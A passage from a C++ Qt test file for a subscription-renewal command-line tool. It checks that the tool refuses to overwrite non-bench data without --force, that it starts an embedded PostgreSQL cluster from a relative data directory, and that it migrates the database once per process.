        QCOMPARE(runProgram(ctl(), withDb(scratch, bench)).exitCode, 0); // its own data only

        rdtest::TestDatabase db("cli_bench_refused");
        rdtest::importSubscriptions(
            db.conninfo(), rdtest::subscriptionLine("stripe-main", "sub_1"));
        const auto refused = runProgram(ctl(), withDb(db, bench));
        QCOMPARE(refused.exitCode, 4);
        QVERIFY2(refused.err.contains("1 subscription(s) that are not bench data"),
            refused.err.constData());
        QVERIFY2(refused.err.contains("--force"), refused.err.constData());
        QCOMPARE(scalar(db, "SELECT count(*) FROM subscriptions"), 1LL);

        const auto forced = runProgram(ctl(),
            withDb(db,
                QStringList(bench) << "--force"
                                   << "--json"));
        QCOMPARE(forced.exitCode, 0);
        const auto report = nlohmann::json::parse(forced.out.toStdString());
        QCOMPARE(report["invariantsHold"], true);
        QCOMPARE(report["applied"].get<int>(), 6);
        QCOMPARE(scalar(db, "SELECT count(*) FROM subscriptions"), 4LL);
    }

    /// #39, 13: a relative --data-dir is the working directory's: the cluster starts there (it
    /// exited 69, "could not create lock file reltest/socket/...", when the socket directory
    /// was given to libpq and the server as the relative path), and says where it is.
    void aRelativeDataDirStarts()
    {
        char tmpl[] = "/tmp/rd-cli-relative-XXXXXX";
        QVERIFY(mkdtemp(tmpl));
        const std::filesystem::path parent = tmpl;
        // The server's account (as root) must reach reltest/ through it.
        std::filesystem::permissions(parent,
            std::filesystem::perms::owner_all | std::filesystem::perms::group_exec
                | std::filesystem::perms::others_exec);
        auto env = QProcessEnvironment::systemEnvironment();
        for (const char *var : {"PGHOST", "PGHOSTADDR", "PGDATABASE", "PGSERVICE", "PGPORT"})
            env.remove(QString::fromLatin1(var));
        const auto inParent = [&](const QStringList &args) {
            QProcess p;
            p.setProcessEnvironment(env);
            p.setWorkingDirectory(QString::fromStdString(parent.string()));
            p.start(ctl(), args);
            p.closeWriteChannel();
            p.waitForFinished(120000);
            return rdtest::RunResult {p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1,
                p.readAllStandardOutput(), p.readAllStandardError()};
        };
        const auto cleanup = qScopeGuard([&] {
            try {
                rd::EmbeddedCluster(parent / "reltest").stop();
            } catch (...) { }
            std::error_code ec;
            std::filesystem::remove_all(parent, ec);
        });

        const auto started = inParent({"db", "start", "--data-dir", "reltest", "--json"});
        QVERIFY2(started.exitCode == 0, started.err.constData());
        const auto where = nlohmann::json::parse(started.out.toStdString());
        QCOMPARE(where["dataDir"].get<std::string>(), (parent / "reltest").string());
        const auto status = inParent({"db", "status", "--data-dir", "./reltest/"});
        QVERIFY2(status.exitCode == 0, status.out.constData());
        pqxx::connection conn(rd::EmbeddedCluster(parent / "reltest").connectionString());
        QCOMPARE(scalar(conn, "SELECT 1"), 1LL);
        QCOMPARE(inParent({"db", "stop", "--data-dir", "reltest"}).exitCode, 0);
    }

    /// #30: a command that asks for the embedded database twice (`demo --if-empty`: its
    /// conninfo, then a connection) migrated it twice, reading every migration file and
    /// checking every recorded checksum each time. A process migrates it once now. Counted by
    /// the server: a migration run reads schema_migrations whole (one sequential scan), and a
    /// backend's counts are in pg_stat_user_tables once the backend has gone.
    void embeddedDatabaseIsMigratedOncePerProcess()
    {
        char tmpl[] = "/tmp/rd-cli-embedded-XXXXXX";
        QVERIFY(mkdtemp(tmpl));
        const std::filesystem::path dataDir = tmpl;
        auto env = QProcessEnvironment::systemEnvironment();
        for (const char *var : {"PGHOST", "PGHOSTADDR", "PGDATABASE", "PGSERVICE", "PGPORT"})
            env.remove(QString::fromLatin1(var));
        env.insert("RENEWAL_DESK_DATA_DIR", QString::fromStdString(dataDir.string()));
        const auto cleanup = qScopeGuard([&] {
            try {
                rd::EmbeddedCluster(dataDir).stop();
            } catch (...) { }
            std::error_code ec;
            std::filesystem::remove_all(dataDir, ec);
        });

        const auto first = runProgram(ctl(), {"migrate"}, {}, env); // creates the cluster
        QVERIFY2(first.exitCode == 0, first.err.constData());
        const std::string conninfo = rd::EmbeddedCluster(dataDir).connectionString();
        const auto migrationScans = [&] {
            pqxx::connection conn(conninfo);
            for (int i = 0; i < 200
                 && scalar(conn,
                        "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                        "AND backend_type = 'client backend' AND pid <> pg_backend_pid()")
                     > 0;
                 ++i)
                QThread::msleep(50);
            return scalar(conn,
                "SELECT seq_scan FROM pg_stat_user_tables WHERE relname = 'schema_migrations'");
        };

        // What one migration run costs, measured: `renewalctl migrate` runs one.
        const long long before = migrationScans();
        QCOMPARE(runProgram(ctl(), {"migrate"}, {}, env).exitCode, 0);
        const long long oneRun = migrationScans() - before;
        QVERIFY(oneRun > 0);

        rdtest::importSubscriptions(conninfo, rdtest::subscriptionLine("stripe-main", "sub_1"));
        const long long beforeDemo = migrationScans();
        const auto demo = runProgram(ctl(), {"demo", "--if-empty"}, {}, env);
        QVERIFY2(demo.exitCode == 0, demo.err.constData());
        QVERIFY2(demo.out.contains("nothing done"), demo.out.constData());
        QCOMPARE(migrationScans() - beforeDemo, oneRun);
    }
};

QTEST_GUILESS_MAIN(TestCli)
#include "tst_cli.moc"
